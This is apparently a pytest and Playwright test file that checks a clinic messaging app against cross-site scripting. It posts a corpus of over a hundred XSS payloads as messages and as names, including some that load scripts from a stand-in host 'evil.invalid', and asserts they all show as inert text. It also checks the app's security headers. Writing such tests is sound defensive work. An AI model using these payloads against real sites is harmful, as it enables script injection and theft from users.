"""S12: what people write stays text. A corpus of scripts in disguise, in bodies, names and titles, through both pages.

A dialog, a script that ran, an element or an address that was not ours: each of them is a failure.
"""

import httpx
import pytest
from playwright.async_api import Dialog, Page, expect

from tests.support.site import Gateway
from tests.web.clinic import Clinic
from tests.web.conftest import OpenPage

RUN = "window.__ran=1;alert(1)"
PLAIN = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import('//evil.invalid/x.js')</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit autofocus></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{background:url(//evil.invalid)}</style>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "javascript:alert(1)",
    "javascript://https://example.org/%0aalert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.invalid/1",
    "https://evil.invalid/'onmouseover='alert(1)",
    'https://evil.invalid/"onmouseover="alert(1)',
    "https://evil.invalid/<script>alert(1)</script>",
    "https://evil.invalid/`${alert(1)}`",
    "https://javascript:alert(1)@evil.invalid/",
    "https://user:word@evil.invalid/",
    "https://[::1/",
    "http://%00.invalid/",
    "https://evil.invalid\u202egpj.exe",
    "\u202e<script>alert(1)</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    '"};alert(1);//',
    "';alert(1);//",
    '"\n{"push":{"disconnect":{"code":3500}}}',
    '{"__proto__":{"polluted":1}}',
    "__proto__",
    "constructor",
    "undefined-like [object Object] not",
    "<x contenteditable onblur=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<p id=app>clobbered</p><p id=messages></p>",
    "<img name=getElementById>",
    "<form id=composer><input name=submit></form>",
]
EVENTS = {
    "img src=x": "onerror", "svg": "onload", "body": "onpageshow", "input autofocus": "onfocus", "details open": "ontoggle",
    "video src=x": "onerror", "marquee": "onstart", "select autofocus": "onfocus", "object data=x": "onerror",
    "style": "onload", "iframe": "onload", "x tabindex=1 id=x": "onfocusin", "a href=#x": "onpointerover",
    "svg><animate attributeName=x": "onbegin", "svg><set attributeName=x": "onend", "math": "onclick",
    "table background=x": "onerror", "button popovertarget=x": "onbeforetoggle", "div style=animation-name:x": "onanimationstart",
    "link rel=preload href=x as=image": "onload", "frameset": "onload", "embed src=x": "onerror", "track src=x": "onerror",
}  # fmt: skip
CORPUS = PLAIN + [f"<{tag} {event}={RUN}>" for tag, event in EVENTS.items()]
NAMES = [
    CORPUS[0],
    CORPUS[2],
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "{{7*7}}<b>bold</b>",
]

# What the pages are made of; anything else in the list of messages or of names was made by what somebody wrote.
STRANGE = """() => {
    const ours = new Set(["SECTION", "H2", "H3", "OL", "UL", "LI", "P", "SPAN", "DIV", "BDI", "TIME", "A", "BUTTON", "DT", "DD"]);
    const inside = document.querySelectorAll(":is(#messages, #channels, #members, #facts, #patient-list, #announcer, .titles) *");
    const strange = [...inside].filter((e) => !ours.has(e.tagName) || [...e.attributes].some(({name}) => name.startsWith("on")));
    const links = [...document.querySelectorAll("#messages a")];
    const wrong = links.filter((a) => !/^https?:$/.test(a.protocol) || a.rel !== "noopener noreferrer" || a.href.includes("@"));
    return [strange.map((e) => e.outerHTML.slice(0, 80)), wrong.map((a) => a.href), window.__ran ?? 0, {}.polluted ?? 0];
}"""


class Watch:
    """Sees dialogs, and requests that leave the house."""

    def __init__(self, page: Page, home: str) -> None:
        self.seen: list[str] = []
        self._home = home
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self._asked(request.url))
        page.on("popup", lambda popup: self.seen.append(f"window {popup.url}"))

    async def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _asked(self, url: str) -> None:
        if not url.startswith(self._home) and not url.startswith(self._home.replace("http", "ws")):
            self.seen.append(f"request {url}")


async def nothing_ran(page: Page, watch: Watch) -> None:
    """All of it is text."""
    assert await page.evaluate(STRANGE) == [[], [], 0, 0]
    assert watch.seen == []


async def dress(clinic: Clinic, name: str) -> None:
    """The same hostile words as every name there is, past the checks that new names go through."""
    sql, organization = clinic.words.sql, clinic.words.organization_id
    owner = clinic._owner  # the application itself would refuse such names
    await owner.execute(
        "update patients set legal_name = $2, display_name = $2 where organization_id = $1", organization, name
    )
    await owner.execute("update team_members set name = $2 where organization_id = $1", organization, name)
    await owner.execute("update organizations set name = $2 where id = $1", organization, name)
    await owner.execute(
        "update channels set name = $2 where organization_id = $1 and name is not null", organization, name
    )
    assert await sql("select 1 from patients where organization_id = $1 and legal_name = $2", organization, name)


@pytest.mark.catalogue("S12")
async def test_what_is_written_stays_text(open_page: OpenPage, clinic: Clinic, port: int) -> None:
    assert len(set(CORPUS)) >= 100
    home = f"http://127.0.0.1:{port}"
    pages = [await open_page("/?as=demo-patient"), await open_page("/portal?as=demo-clinician#/channel/care")]
    watches = [Watch(page, home) for page in pages]
    for text in CORPUS:
        await clinic.say("care", "demo-patient", text)
    for page, watch in zip(pages, watches, strict=True):
        await expect(page.locator("#messages .text").last).to_have_text(CORPUS[-1])
        found: set[str] = set()
        for _ in range(60):
            found |= set(await page.locator("#messages .text").all_text_contents())
            await nothing_ran(page, watch)
            if len(found) >= len(CORPUS):
                break
            await page.locator("#scroller").evaluate("(log) => log.scrollBy(0, -log.clientHeight)")
            await page.evaluate("new Promise((then) => requestAnimationFrame(() => requestAnimationFrame(then)))")
        assert found == {text.strip() for text in CORPUS}, "each is shown, exactly as it was written"


@pytest.mark.catalogue("S12")
@pytest.mark.parametrize("name", NAMES)
async def test_names_stay_text(open_page: OpenPage, clinic: Clinic, port: int, name: str) -> None:
    await dress(clinic, name)
    await clinic.say("care", "demo-patient", "Hello")
    home = f"http://127.0.0.1:{port}"
    patient = await open_page("/?as=demo-patient")
    portal = await open_page("/portal?as=demo-nurse#/channel/care")
    watches = [Watch(patient, home), Watch(portal, home)]
    await clinic.say("care", "demo-clinician", "Hello")
    for page in (patient, portal):
        await expect(page.locator("#messages .author").last).to_contain_text(name)
        await page.locator("#details-toggle").click()
        await expect(page.locator("#members li").first).to_contain_text(name)
        await page.locator("#account-button").click()
        await expect(page.locator(".menu-note")).to_contain_text(name)
        await page.keyboard.press("Escape")
    await portal.locator("#to-patients").click()
    await expect(portal.locator("#patient-list .patient-name")).to_contain_text(name)
    for page, watch in zip((patient, portal), watches, strict=True):
        await nothing_ran(page, watch)


@pytest.mark.catalogue("S12")
@pytest.mark.parametrize(
    "path", ["/", "/portal", "/static/page.js", "/static/base.css", "/static/portal.webmanifest", "/static/nothing"]
)
async def test_the_browser_is_told_to_refuse_everything_else(gateway: Gateway, path: str) -> None:
    async with httpx.AsyncClient() as http:
        headers = (await http.get(gateway.url + path)).headers
    policy = {words[0]: words[1:] for part in headers["Content-Security-Policy"].split(";") if (words := part.split())}
    assert policy["default-src"] == ["'none'"]
    assert policy["require-trusted-types-for"] == ["'script'"]
    for fetched in ("script-src", "style-src", "connect-src", "manifest-src"):
        assert policy[fetched] == ["'self'"], "nothing inline, nothing from elsewhere"
    assert policy["img-src"] == ["'self'", "blob:"], (
        "pictures of people are fetched with the token, and shown from memory"
    )
    for never in ("base-uri", "form-action", "frame-ancestors"):
        assert policy[never] == ["'none'"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
